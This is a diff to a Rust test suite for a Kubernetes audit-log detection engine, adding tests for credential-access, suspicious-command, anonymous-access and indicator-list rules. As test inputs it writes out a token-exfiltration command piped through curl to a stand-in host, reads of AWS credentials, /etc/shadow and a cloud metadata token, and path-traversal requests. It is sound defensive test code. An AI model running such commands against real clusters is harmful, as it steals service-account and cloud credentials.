@@ -27,6 +27,10 @@ const CONTRACT_RULE_IDS: &[&str] = &[
     "falco.runtime_alert",
 ];
 
+/// Rules that match only what the configuration puts in their lists (empty in the built-in
+/// library): their inline tests can only show them quiet, so the tests below fill the lists.
+const LIST_DRIVEN_RULE_IDS: &[&str] = &["k8s.indicator_match"];
+
 #[test]
 fn every_rule_file_in_the_rules_folder_is_built_in() {
     let folder = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("rules");
@@ -95,7 +99,8 @@ fn every_builtin_rule_has_passing_inline_tests() {
             .filter(|outcome| outcome.rule_id == rule.id)
             .collect();
         assert!(
-            mine.iter().any(|outcome| outcome.expected > 0),
+            mine.iter().any(|outcome| outcome.expected > 0)
+                || LIST_DRIVEN_RULE_IDS.contains(&rule.id.as_str()),
             "{} has no inline test that must alert",
             rule.id
         );
@@ -110,8 +115,13 @@ fn every_builtin_rule_has_passing_inline_tests() {
         let problems: Vec<_> = detect::lint(text, name)
             .into_iter()
             .filter(|finding| {
+                let list_driven = finding
+                    .rule_id
+                    .as_deref()
+                    .is_some_and(|id| LIST_DRIVEN_RULE_IDS.contains(&id));
                 finding.severity == detect::LintSeverity::Error
-                    || finding.message.contains("no inline test")
+                    || (finding.message.contains("no inline test")
+                        && !(list_driven && finding.message.contains("must alert")))
             })
             .collect();
         assert!(problems.is_empty(), "{name}: {problems:?}");
@@ -743,7 +753,21 @@ fn anonymous_access() {
             .user("anonymous-ish", ActorKind::Anonymous),
         &[rule],
     );
-    for public in ["/healthz", "/livez?verbose", "/readyz/ping", "/version"] {
+    // A dot segment or an escape leaves the public paths.
+    check(anonymous("/healthz/../api/v1/secrets"), &[rule]);
+    check(anonymous("/version/%2e%2e/api/v1/secrets"), &[rule]);
+    check(anonymous("/openid/v1/jwks/keys"), &[rule]);
+    for public in [
+        "/healthz",
+        "/livez?verbose",
+        "/readyz/ping",
+        "/readyz/",
+        "/healthz/poststarthook/start-apiextensions-controllers",
+        "/version",
+        "/version/?timeout=32s",
+        "/.well-known/openid-configuration",
+        "/openid/v1/jwks",
+    ] {
         check(anonymous(public), &[]);
     }
     check(anonymous("/api/v1/namespaces/team-a/pods").denied(), &[]);
@@ -1121,7 +1145,7 @@ fn alert_follows_the_contract() {
         .impersonating("bob")
         .exec(&["cat", "/etc/shadow\nx"])
         .build();
-    // Reading /etc/shadow also raises the suspicious-command rule; this test is about pod_exec.
+    // Reading /etc/shadow also raises the credential-access rule; this test is about pod_exec.
     let alerts: Vec<_> = alerts_for(&event)
         .into_iter()
         .filter(|alert| alert.rule_id == "k8s.pod_exec")
@@ -1181,6 +1205,134 @@ fn builtin_summaries_render_without_placeholders() {
     for id in CONTRACT_RULE_IDS {
         assert!(seen.contains(*id), "{id} did not fire");
     }
+}
+
+#[test]
+fn an_exec_reading_credentials_raises_one_command_alert() {
+    let exec = |command: &[&str]| {
+        audit("create", "pods")
+            .subresource("exec")
+            .name("web-0")
+            .stage("ResponseStarted")
+            .code(101)
+            .exec(command)
+    };
+    let credentials = "k8s.exec_credential_access";
+    let suspicious = "k8s.exec_suspicious_command";
+    // A token read piped into a download is the credential rule's alone.
+    check(
+        exec(&[
+            "sh",
+            "-c",
+            "cat /var/run/secrets/kubernetes.io/serviceaccount/token | curl -d @- http://203.0.113.9/t",
+        ]),
+        &["k8s.pod_exec", credentials],
+    );
+    check(
+        exec(&["wget", "-qO-", "http://[fd00:ec2::254]/latest/api/token"]),
+        &["k8s.pod_exec", credentials],
+    );
+    check(
+        exec(&["cat", "/var/run/secrets/azure/tokens/azure-identity-token"]),
+        &["k8s.pod_exec", credentials],
+    );
+    // A download without credentials stays the suspicious-command rule's.
+    check(
+        exec(&["curl", "-s", "http://203.0.113.9/x.sh"]),
+        &["k8s.pod_exec", suspicious],
+    );
+    // A ResponseComplete record judged on its own alerts too (a detector keeps one alert per
+    // audit ID, on the first stage it sees).
+    check(
+        exec(&["cat", "/root/.aws/credentials"]).stage("ResponseComplete"),
+        &["k8s.pod_exec", credentials],
+    );
+    check(exec(&["cat", "/root/.aws/credentials"]).denied(), &[]);
+}
+
+#[test]
+fn indicator_match_is_quiet_by_default_and_fires_on_configured_indicators() {
+    let rule = "k8s.indicator_match";
+    let request = |ips: &[&str], agent: &str| {
+        audit("list", "pods")
+            .source_ips(ips)
+            .user_agent(agent)
+            .build()
+    };
+    let kubectl = "kubectl/v1.32.0 (linux/amd64) kubernetes/0123abc";
+    // The built-in lists are empty: nothing is an indicator.
+    check(request(&["203.0.113.66"], "evil-scanner/2.1"), &[]);
+
+    // What `[detect.lists]` in the configuration does.
+    let config: detect::Config = toml::from_str(
+        r#"
+        [lists]
+        indicator_ips = ["203.0.113.0/24", "2001:db8::7"]
+        indicator_user_agents = ["evil-scanner/*", "*masscan*"]
+        "#,
+    )
+    .unwrap();
+    let rules = config.load_rules().unwrap();
+    assert_eq!(rules.len(), RuleSet::builtin().unwrap().len());
+    let engine = detect::Engine::new(rules);
+    let fires = |event: &event::Event| {
+        let mut alerts = Vec::new();
+        engine.evaluate(event, &mut alerts);
+        alerts.into_iter().find(|alert| alert.rule_id == rule)
+    };
+    let alert = fires(&request(&["203.0.113.66"], kubectl)).expect("a listed network");
+    assert_eq!(alert.severity, Severity::High);
+    assert_eq!(
+        alert.summary,
+        format!(
+            "alice@example.com reached the API from a flagged source 203.0.113.66 ({kubectl}): list /api/v1/namespaces/team-a/pods"
+        )
+    );
+    assert!(fires(&request(&["2001:db8::7"], kubectl)).is_some());
+    assert!(fires(&request(&["10.0.0.7"], "evil-scanner/2.1")).is_some());
+    assert!(
+        fires(&request(
+            &["10.0.0.7"],
+            "Mozilla/5.0 (compatible; masscan/1.3)"
+        ))
+        .is_some()
+    );
+    // Any sourceIPs entry counts, even one an X-Forwarded-For header put there.
+    assert!(fires(&request(&["203.0.113.9", "10.0.0.1"], kubectl)).is_some());
+    // Denied requests and failed logins (logged at ResponseStarted, without a user) count.
+    let mut denied = request(&["203.0.113.66"], kubectl);
+    denied.decision = Some(event::Decision::Forbid);
+    denied.response_code = Some(403);
+    assert!(fires(&denied).is_some());
+    let mut failed_login = request(&["203.0.113.66"], "curl/8.5.0");
+    failed_login.stage = Some("ResponseStarted".to_owned());
+    failed_login.user = None;
+    failed_login.actor_kind = None;
+    failed_login.decision = Some(event::Decision::Forbid);
+    failed_login.response_code = Some(401);
+    assert!(fires(&failed_login).is_some());
+    // Near misses: an unlisted address and agent, a glob that does not match.
+    assert!(fires(&request(&["198.51.100.1"], kubectl)).is_none());
+    assert!(fires(&request(&["2001:db8::8"], kubectl)).is_none());
+    assert!(fires(&request(&["10.0.0.7"], "evil-scanner")).is_none());
+
+    // One list filled, the other left empty: both compile, only the filled one matches.
+    let agents_only = detect::Config {
+        lists: [(
+            "indicator_user_agents".to_owned(),
+            vec!["evil-scanner/*".to_owned()],
+        )]
+        .into(),
+        ..detect::Config::default()
+    };
+    let engine = detect::Engine::new(agents_only.load_rules().unwrap());
+    let fired = |event: &event::Event| {
+        let mut alerts = Vec::new();
+        engine.evaluate(event, &mut alerts);
+        alerts.iter().any(|alert| alert.rule_id == rule)
+    };
+    assert!(fired(&request(&["10.0.0.7"], "evil-scanner/2.1")));
+    assert!(!fired(&request(&["203.0.113.66"], kubectl)));
 }
 
 #[test]
